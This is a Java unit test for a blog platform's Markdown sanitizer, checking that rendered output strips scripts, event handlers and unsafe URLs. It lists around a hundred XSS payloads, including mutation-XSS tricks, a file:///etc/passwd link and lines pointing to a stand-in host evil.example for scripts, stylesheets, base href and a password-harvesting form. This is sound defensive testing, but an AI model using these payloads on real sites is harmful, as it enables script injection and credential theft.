package org.travessia.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What has got scripts into other blogs must not into this one, as a browser would read what is left of it. */
class MarkdownPolicyTest {

    private static final Set<String> NEVER = Set.of(
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "button",
            "textarea",
            "select",
            "link",
            "meta",
            "base",
            "template",
            "noscript",
            "video",
            "audio",
            "portal",
            "frame",
            "frameset",
            "applet",
            "xmp");

    private final Markdown markdown = new Markdown();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#115;cript:alert(1))",
                "[x](&#x6A&#x61;vascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](java&Tab;script:alert(1))",
                "[x](java&NewLine;script:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](&#1;javascript:alert(1))",
                "[x](\u00A0javascript:alert(1))",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](file:///etc/passwd)",
                "[x](blob:http://a/b)",
                "[x](view-source:javascript:alert(1))",
                "[x](jar:javascript:alert(1)!/)",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml,<svg onload=alert(1)>)",
                "![x\" onerror=\"alert(1)](a.png)",
                "![x](a.png \"\\\" onerror=alert(1) x=\")",
                "![x](a.png\"onerror=\"alert(1))",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=java&#x0A;script:alert(1)>x</a>",
                "<a href=x onclick=alert(1)>x</a>",
                "<a href=x onclick\n=\nalert(1)>x</a>",
                "<a/href=x/onmouseover=alert(1)>x</a>",
                "<a xlink:href=\"javascript:alert(1)\">x</a>",
                "<a href=x ping=//evil.example style=\"position:fixed\" target=_blank>x</a>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror=alert(1)//",
                "<img/src/onerror=alert(1)>",
                "<img src=`javascript:alert(1)`>",
                "<img srcset=\"javascript:alert(1) 1x\" src=x>",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\n>alert(1)</script\n>",
                "a <script>alert(1)</script> b",
                "<style>@import '//evil.example';</style>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
                "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<table><tr><td><noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed></td></tr></table>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--- --!><img src=x onerror=alert(1)>-->",
                "<![CDATA[><img src=x onerror=alert(1)>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=javascript:alert(1)>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<link rel=stylesheet href=//evil.example/a.css>",
                "<form action=//evil.example><input name=password><button>x</button></form>",
                "<input type=image src=x onerror=alert(1)>",
                "<input type=checkbox onclick=alert(1) autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<audio src onloadstart=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<div id=x tabindex=0 onfocus=alert(1)></div>",
                "<time datetime=\"x\" onanimationstart=alert(1)>x</time>",
                "<a name=cookie id=attributes href=x>x</a><img name=forms src=x>",
                "```html\n<script>alert(1)</script>\n```",
                "```\"><script>alert(1)</script>\nx\n```",
                "```java\"onmouseover=\"alert(1)\nx\n```",
                "`<script>alert(1)</script>`",
                "# <script>alert(1)</script>",
                "# <img src=x onerror=alert(1)>",
                "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
                "[^\" onclick=alert(1)]\n\n[^\" onclick=alert(1)]: x",
                "| <img src=x onerror=alert(1)> |\n|---|\n| <svg/onload=alert(1)> |",
                "http://example.com/\"onmouseover=alert(1)",
                "<http://example.com/\"onmouseover=alert(1)>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<<script>alert(1)//<</script>",
                "\u0000<scr\u0000ipt>alert(1)</script>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
            })
    void noScriptGetsThrough(String attack) {
        Document page = Jsoup.parseBodyFragment(markdown.render(attack).html());
        for (Element element : page.body().getAllElements()) {
            assertThat(element.normalName()).as(attack).isNotIn(NEVER);
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as(attack)
                        .doesNotStartWith("on")
                        .isNotIn("style", "srcdoc", "srcset", "name", "ping", "target");
                if (name.equals("href") || name.equals("src")) {
                    assertThat(attribute.getValue().strip().toLowerCase(Locale.ROOT))
                            .as(attack)
                            .matches("(?s)(https?:|mailto:|[^:]*([/?#]|$)).*");
                }
            }
        }
    }

    @Test
    void whatIsLeftStaysTheSame() {
        // A browser that parses and writes again must not find a new element: that is how mutation XSS works.
        String html = markdown.render("<p title=\"&lt;/p>&lt;img src=x onerror=alert(1)>\">a</p> <b>b <i>c</b> d</i>")
                .html();
        String again = Jsoup.parseBodyFragment(html).body().html();
        assertThat(Jsoup.parseBodyFragment(again).select("[onerror]")).isEmpty();
        assertThat(MarkdownPolicy.sanitize(html).replace("text-", "")).isEqualTo(html);
    }

    @Test
    void keepsWhatAuthorsUse() {
        Document page = Jsoup.parseBodyFragment(markdown.render("""
                <details><summary>Mais</summary>

                Texto com <kbd>Ctrl</kbd>, H<sub>2</sub>O e <mark>marca</mark>.

                </details>

                <figure><img src="/media/a.png" width="10" height="20" alt="x"><figcaption>Legenda</figcaption></figure>

                [e-mail](mailto:a@example.com) [relativo](../b) [outro](//example.com/x)
                """).html());
        assertThat(page.select("details summary").text()).isEqualTo("Mais");
        assertThat(page.select("kbd, sub, mark")).hasSize(3);
        assertThat(page.selectFirst("figure img").attr("width")).isEqualTo("10");
        assertThat(page.select("a").eachAttr("href"))
                .containsExactly("mailto:a@example.com", "../b", "//example.com/x");
    }

    @Test
    void classesOfThePageAreNotForTexts() {
        assertThat(markdown.render("<span class=\"button danger\">x</span>").html())
                .doesNotContain("class");
        assertThat(markdown.render("<span class=\"hl-keyword\">x</span>").html())
                .contains("class=\"hl-keyword\"");
    }

    @Test
    void headingsLeadToThemselvesAndNoTextCanPretendIt() {
        String html = new Markdown()
                .render("## Two *words*\n\n<h3 id=\"x\">a</h3>\n\n<h3>none</h3>\n")
                .html();
        assertThat(html)
                .contains("<h2 id=\"text-two-words\">Two <em>words</em><a class=\"anchor\" href=\"#text-two-words\""
                        + " tabindex=\"-1\" aria-hidden=\"true\"></a></h2>")
                .contains("<h3 id=\"text-x\">a<a class=\"anchor\" href=\"#text-x\"")
                .contains("<h3>none</h3>");
        assertThat(new Markdown()
                        .render("<a class=\"anchor\" aria-hidden=\"true\" tabindex=\"-1\" href=\"/\">x</a>")
                        .html())
                .doesNotContain("anchor")
                .doesNotContain("aria-hidden")
                .doesNotContain("tabindex");
    }
}
